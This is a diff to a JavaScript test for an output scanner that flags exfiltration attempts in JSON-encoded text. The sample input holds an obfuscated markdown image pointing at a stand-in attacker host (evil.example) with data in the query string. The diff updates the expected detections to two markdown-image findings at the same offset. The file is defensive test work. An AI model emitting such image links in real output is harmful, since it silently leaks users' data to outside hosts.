@@ -181,9 +181,14 @@ describe('exfiltration in a JSON channel: each decoded string value is judged', 
       '{"md":"![x](\\u0068ttps:\\/\\/evil.example\\/p.png?d=abc)","c":"a\\r\\nb [x](https://docs.example.com/)"}';
     const r = flag.scanOutput(text, 'json');
     assert.equal(r.text, text);
+    // reading 1 (the decoded value); reading 2 reads the raw text's `\u0068ttps:\/\/evil.example` as a relative
+    // image whose path names a foreign host (a path-style redirect on the page's own origin): the same image
     assert.deepEqual(
-      r.findings.map((f) => f.detector),
-      ['markdown-image'],
+      r.findings.map((f) => [f.detector, f.start]),
+      [
+        ['markdown-image', 7],
+        ['markdown-image', 7],
+      ],
     );
     const s = flag.streamOutput('json');
     let got = '';
